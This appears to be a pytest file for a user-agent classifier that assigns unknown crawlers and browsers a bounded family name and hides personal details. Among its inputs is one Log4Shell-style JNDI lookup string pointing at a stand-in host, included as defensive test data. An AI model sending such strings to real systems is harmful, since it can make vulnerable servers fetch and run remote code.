"""A program that no list knows gets a name to look at, and never more than a name."""

from __future__ import annotations

import pytest

from vaandel.links import families
from vaandel.links.agents import MAX_FAMILY, agent_of
from vaandel.links.kinds import Kind

MACHINE = "Mozilla/5.0 (X11; Linux x86_64)"


@pytest.mark.parametrize(
    ("agent", "kind", "family"),
    [
        ("FooFetcher/1.2 (+https://foo.example)", Kind.BOT, "program FooFetcher"),
        ("FooFetcher v2", Kind.BOT, "program FooFetcher"),
        ("foo-fetcher2/3.0", Kind.BOT, "program foo-fetcher"),
        ("foo_fetcher/3.0", Kind.BOT, "program foo-fetcher"),
        ("com.example.reader/118 (Android 15)", Kind.BOT, "program com.example.reader"),
        (f"{MACHINE} FooBar/7.1", Kind.HUMAN, "browser FooBar"),
        (f"{MACHINE} Gecko/20100101 FooBar/7.1", Kind.HUMAN, "browser FooBar"),
        (
            "Mozilla/5.0 (compatible; FooBot/1.0; +https://foo.example/bot)",
            Kind.BOT,
            "robot FooBot",
        ),
        ("Foo-Crawler", Kind.BOT, "robot Foo-Crawler"),
        # The rest of an agent says who somebody is, or is a sentence.
        ("Jansen", Kind.BOT, "program unnamed"),
        ("Jan de Vries", Kind.BOT, "program unnamed"),
        ("jan.devries@example.org", Kind.BOT, "program unnamed"),
        ("jan.devries@example.org/1.0", Kind.BOT, "program unnamed"),
        ("192.0.2.7/1.0", Kind.BOT, "program unnamed"),
        ("deadbeefcafe/1.0", Kind.BOT, "program unnamed"),
        ("f3c381e4920fede7f46d/1", Kind.BOT, "program unnamed"),
        ("b0eb04d5-cb5e-40e7-839b-558e52fc3f0d/1", Kind.BOT, "program unnamed"),
        ("n7vbjikwtrsbev/1.0", Kind.BOT, "program unnamed"),
        ("xKcdFgHjQwRtZp/1.0", Kind.BOT, "program unnamed"),
        ("aBcDeFgHiJkL/1.0", Kind.BOT, "program unnamed"),
        ("www.news.of.the.day.example/1.0", Kind.BOT, "program unnamed"),
        ("0123456789/1.0", Kind.BOT, "program unnamed"),
        ("A" * 31 + "/1.0", Kind.BOT, "program unnamed"),
        ("x/1.0", Kind.BOT, "program unnamed"),
        ("Fü/1.0", Kind.BOT, "program unnamed"),
        ("${jndi:ldap://x.example/a}", Kind.BOT, "program unnamed"),
        ("somebody@bot.example bot", Kind.BOT, "robot bot"),
        ("me@robot", Kind.BOT, "robot unnamed"),
        (MACHINE, Kind.HUMAN, "browser unnamed"),
        (f"{MACHINE} jan@example.org/1", Kind.HUMAN, "browser unnamed"),
    ],
)
def test_an_unknown_agent_has_a_family_of_its_own(agent: str, kind: Kind, family: str) -> None:
    verdict = agent_of(agent)

    assert (verdict.kind, verdict.family) == (kind, family)
    assert verdict.family.startswith(families.TO_REVIEW)
    assert len(verdict.family) <= MAX_FAMILY
